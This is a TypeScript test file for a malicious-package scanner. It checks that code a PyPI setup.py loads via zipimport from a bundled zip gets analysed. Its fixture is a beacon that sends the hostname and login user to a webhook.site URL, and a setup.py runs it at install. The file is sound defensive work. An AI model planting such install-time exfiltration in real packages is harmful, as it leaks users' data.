// Code a package loads from an archive it ships is read and analysed; archives it only carries, or cannot be read, change nothing.
import { beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
import type { Artifact } from '../../src/core/ecosystem.ts'
import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
import { analyzeArtifact, initEngine } from '../../src/scanning/engine.ts'
import { withNestedCode } from '../../src/scanning/nested-code.ts'
import { sdistTarGz } from '../helpers/python-dists.ts'
import { patchEntry, zipOf } from '../helpers/zips.ts'

beforeAll(async () => {
  await initEngine()
})

const BEACON = `import os, socket, requests

def hello():
    requests.post('https://webhook.site/00000000-0000-4000-8000-000000000000', json={'host': socket.gethostname(), 'user': os.getlogin()})
`

/** An sdist whose setup.py is `setup`, with `archive` added as `my.zip` beside it. */
async function withArchive(setup: string, archive: Buffer): Promise<Artifact> {
  const bytes = await sdistTarGz('synthetic-pkg', '1.0.0', { 'setup.py': setup })
  const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic-pkg-1.0.0.tar.gz' })
  const root = artifact.files.find((f) => f.path.endsWith('setup.py'))!.path.replace(/setup\.py$/, '')
  return { ...artifact, files: [...artifact.files, { path: `${root}my.zip`, size: archive.length, mode: 0o644, content: archive }] }
}

const ZIPIMPORT_SETUP = `import zipimport
from setuptools import setup
importer = zipimport.zipimporter("my.zip")
importer.load_module("my").hello()
setup(name='synthetic-pkg', version='1.0.0')
`

describe('code loaded from a bundled archive', () => {
  it('reads the modules of an archive setup.py imports with zipimport, and judges them', async () => {
    const artifact = await withArchive(ZIPIMPORT_SETUP, await zipOf([{ name: 'my/__init__.py', content: BEACON }, { name: 'my/logo.png', content: 'not code' }]))
    const read = await withNestedCode(artifact, DEFAULT_ARCHIVE_LIMITS)
    const nested = read.files.filter((f) => f.path.includes('my.zip/'))
    expect(nested.map((f) => f.path.split('/').slice(-3).join('/'))).toEqual(['my.zip/my/__init__.py'])
    const report = analyzeArtifact(read, pypiEcosystem)
    expect(report.signals.find((s) => s.rule === 'exfiltration-endpoint')?.file).toMatch(/my\.zip\/my\/__init__\.py$/)
    expect(report.verdict).toBe('hold')
    // without it, the archive is an opaque file
    expect(analyzeArtifact(artifact, pypiEcosystem).verdict).toBe('publish')
  })

  it('leaves alone an archive the code does not load code from', async () => {
    const artifact = await withArchive(`from setuptools import setup\nsetup(name='synthetic-pkg', version='1.0.0', package_data={'': ['my.zip']})\n`, await zipOf([{ name: 'my/__init__.py', content: BEACON }]))
    expect(await withNestedCode(artifact, DEFAULT_ARCHIVE_LIMITS)).toBe(artifact)
  })

  it('skips a nested archive that is encrypted, corrupt or over what the limits leave, and still scans the package', async () => {
    for (const patch of [{ flags: 1 }, { crc32: 0xdeadbeef }, { uncompressedSize: 1 }]) {
      const broken = patchEntry(await zipOf([{ name: 'my/__init__.py', content: BEACON }]), 'my/__init__.py', patch)
      const hostile = await withArchive(ZIPIMPORT_SETUP, broken)
      expect((await withNestedCode(hostile, DEFAULT_ARCHIVE_LIMITS)).files, JSON.stringify(patch)).toEqual(hostile.files)
      expect(analyzeArtifact(hostile, pypiEcosystem).verdict).toBe('publish')
    }
    const full = await withArchive(ZIPIMPORT_SETUP, await zipOf([{ name: 'my/__init__.py', content: BEACON }]))
    const tight = { ...DEFAULT_ARCHIVE_LIMITS, maxEntries: full.files.length }
    expect((await withNestedCode(full, tight)).files).toEqual(full.files)
  })
})
